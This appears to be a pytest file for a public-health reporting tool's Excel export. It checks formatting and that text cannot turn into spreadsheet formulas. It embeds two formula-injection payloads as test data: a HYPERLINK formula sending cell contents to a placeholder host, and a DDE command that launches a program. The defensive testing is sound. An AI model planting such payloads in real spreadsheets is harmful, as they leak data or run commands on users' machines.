"""The meeting pack's Excel workbook: reopened with openpyxl it holds the numbers of ``pws status`` as numbers,
formatted, frozen, coloured by status, and no text of the workspace can become a formula."""

from __future__ import annotations

import io
import math
import shutil
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from pws import service
from pws.analysis import CONTRACT_COLUMNS
from pws.cli import main
from pws.config import Workspace
from pws.figures.charts import status_label
from pws.figures.theme import STATUS_COLOURS
from pws.i18n import t
from pws.report.excel import DESA_COLUMNS, FORMULA_PREFIXES, HEADER_ROW, neutralise, write_excel
from pws.report.pack import PackData, collect

TAHUN, BULAN = 2025, 10
EVIL_DESA = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
EVIL_PUSKESMAS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 811", "'+62 811"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kebon Makmur", "Kebon Makmur"),
        ("Desa-Baru", "Desa-Baru"),
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_neutralise_prefixes_text_a_spreadsheet_would_evaluate(text: str, expected: str) -> None:
    assert neutralise(text) == expected
    assert not neutralise(text).startswith(FORMULA_PREFIXES)


@pytest.fixture(scope="module")
def ws(demo_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """The demo with one desa and one puskesmas renamed to formulas (as a careless or hostile wilayah.csv could)."""
    root = tmp_path_factory.mktemp("excel") / "ws"
    shutil.copytree(demo_store, root)
    wilayah = pd.read_csv(root / "wilayah.csv", dtype=str, keep_default_na=False)
    wilayah.loc[0, "nama_desa"] = EVIL_DESA
    pkm = wilayah.loc[len(wilayah) - 1, "kode_puskesmas"]
    wilayah.loc[wilayah["kode_puskesmas"] == pkm, "nama_puskesmas"] = EVIL_PUSKESMAS
    wilayah.to_csv(root / "wilayah.csv", index=False)
    return Workspace(root)


@pytest.fixture(scope="module")
def data(ws: Workspace) -> PackData:
    return collect(ws, TAHUN, BULAN, lang="id")


@pytest.fixture(scope="module")
def book(data: PackData) -> Workbook:
    return load_workbook(io.BytesIO(write_excel(data)))


def _sheet_frame(book: Workbook, name: str) -> pd.DataFrame:
    sheet = book[name]
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def _pws_status(ws: Workspace, kode: str, tmp_path: Path) -> pd.DataFrame:
    out = tmp_path / f"{kode}.csv"
    assert main(["status", "--workspace", str(ws.root), "--tahun", str(TAHUN), "--bulan", str(BULAN),
                 "--indikator", kode, "-o", str(out)]) == 0  # fmt: skip
    return pd.read_csv(out, dtype={"kode_desa": str, "nama_desa": str}, keep_default_na=False, na_values=[""])


def _same(a: object, b: object) -> bool:
    missing = [v is None or (isinstance(v, float) and math.isnan(v)) for v in (a, b)]
    if all(missing) or any(missing):
        return all(missing)
    if isinstance(a, int | float) and isinstance(b, int | float):
        # openpyxl writes 16 significant digits (Excel itself keeps 15): equal to that precision, exactly
        return float(a) == float(f"{float(b):.16g}")
    return str(a) == str(b)


def test_sheets_one_per_key_indicator(book: Workbook, data: PackData) -> None:
    names = [t(f"rapat.xl_sheet_{n}", "id") for n in ("ikhtisar", "peringkat")]
    names += [kode for _, kode in data.keys]
    names += [t(f"rapat.xl_sheet_{n}", "id") for n in ("puskesmas", "perhatian", "kelengkapan")]
    names += [t("jejaring.xl_sheet", "id")]  # the demo has a jejaring.csv
    assert book.sheetnames == names


def test_network_sheet_has_one_row_per_desa_with_its_units(book: Workbook, data: PackData, ws: Workspace) -> None:
    sheet = _sheet_frame(book, t("jejaring.xl_sheet", "id"))
    wilayah = service.workspace_data(ws).wilayah
    assert sheet[t("rapat.xl_kode_desa", "id")].tolist() == wilayah["kode_desa"].tolist()
    units = pd.read_csv(ws.root / "jejaring.csv", dtype=str, keep_default_na=False)
    units = units[units["kode_desa"].isin(set(wilayah["kode_desa"]))].drop_duplicates(["kode_desa", "jenis", "nama"])
    # posbindu and poskesdes in the demo all opened before 2025: every row counts
    for jenis in ("posbindu", "poskesdes"):
        expected = units[units["jenis"] == jenis].groupby("kode_desa").size()
        got = sheet.set_index(t("rapat.xl_kode_desa", "id"))[t(f"jejaring.xl_{jenis}", "id")]
        assert got.to_dict() == {k: int(expected.get(k, 0)) for k in got.index}
    melapor = sheet[t("jejaring.xl_posyandu_melapor", "id")]
    assert (melapor <= sheet[t("jejaring.xl_posyandu", "id")]).all() and melapor.sum() > 0


@pytest.mark.parametrize("kode", ["K4", "IDL", "SKRINING_SEK"])
def test_indicator_sheet_has_the_numbers_of_pws_status(
    book: Workbook, ws: Workspace, kode: str, tmp_path: Path
) -> None:
    sheet = _sheet_frame(book, kode)
    labels = {t(col.label, "id"): col.name for col in DESA_COLUMNS}
    sheet = sheet.rename(columns=labels)
    status = _pws_status(ws, kode, tmp_path)
    assert sheet["kode_desa"].tolist() == status["kode_desa"].tolist()
    for column in CONTRACT_COLUMNS:
        for row, (mine, theirs) in enumerate(zip(sheet[column], status[column], strict=True)):
            if column == "status":
                theirs = status_label(str(theirs), "id")
            elif column == "nama_desa" and isinstance(theirs, str):
                theirs = neutralise(theirs)
            assert _same(mine, theirs), (kode, column, row, mine, theirs)


def test_numbers_are_numbers_with_formats_and_statuses_have_their_colour(book: Workbook) -> None:
    sheet = book["K4"]
    header = [cell.value for cell in sheet[HEADER_ROW]]
    columns = {col.name: header.index(t(col.label, "id")) + 1 for col in DESA_COLUMNS}
    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"
    assert sheet.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
    assert all(cell.font.b for cell in sheet[HEADER_ROW] if cell.value)
    first = HEADER_ROW + 1
    coverage = sheet.cell(row=first, column=columns["cakupan_kumulatif"])
    assert coverage.data_type == "n" and isinstance(coverage.value, float) and coverage.number_format == "0.0"
    assert sheet.cell(row=first, column=columns["kumulatif"]).number_format == "#,##0"
    checked = 0
    for row in range(first, sheet.max_row + 1):
        cell = sheet.cell(row=row, column=columns["status"])
        for status, colour in STATUS_COLOURS.items():
            if cell.value == status_label(status, "id"):
                assert cell.fill.fgColor.rgb.upper().endswith(colour.lstrip("#").upper()), (row, status)
                checked += 1
    assert checked == sheet.max_row - HEADER_ROW


def test_no_text_becomes_a_formula(book: Workbook) -> None:
    found_desa = found_puskesmas = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), (sheet.title, cell.coordinate)
                    found_desa += cell.value == "'" + EVIL_DESA
                    found_puskesmas += cell.value == "'" + EVIL_PUSKESMAS
    assert found_desa >= 1 and found_puskesmas >= 1


def test_overview_and_completeness_sheets(book: Workbook, data: PackData) -> None:
    summary = _sheet_frame(book, t("rapat.xl_sheet_ikhtisar", "id"))
    assert summary[t("rapat.xl_kode", "id")].tolist() == [kode for _, kode in data.keys]
    coverage = summary[t("rapat.xl_cakupan_kumulatif", "id")].tolist()
    assert coverage == pytest.approx(data.summary["cakupan_kumulatif"].tolist())
    completeness = _sheet_frame(book, t("rapat.xl_sheet_kelengkapan", "id"))
    puskesmas = data.tables["K4"]["kode_puskesmas"].nunique()
    assert len(completeness) == puskesmas * BULAN
    words = {t(f"quality.status.{s}", "id") for s in ("diterima", "terlambat", "sebagian", "tidak_ada")}
    assert set(completeness[t("rapat.xl_status_laporan", "id")]) <= words


def test_cli_writes_the_workbook_without_a_browser(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pws.report import images

    monkeypatch.setattr(images, "chromium_path", lambda: None)
    out = tmp_path / "paket.xlsx"
    assert main(["rapat", "--workspace", str(ws.root), "--tahun", "2025", "--bulan", "10", "-o", str(out)]) == 0
    assert "K4" in load_workbook(out, read_only=True).sheetnames
    both = ["rapat", "--workspace", str(ws.root), "-o", str(tmp_path / "b.xlsx"), "-o", str(tmp_path / "b.pptx")]
    monkeypatch.setattr("pws.report.chromium_path", lambda: None)
    assert main(both) == 1  # the workbook is written, the deck needs Chromium
    assert (tmp_path / "b.xlsx").exists() and not (tmp_path / "b.pptx").exists()
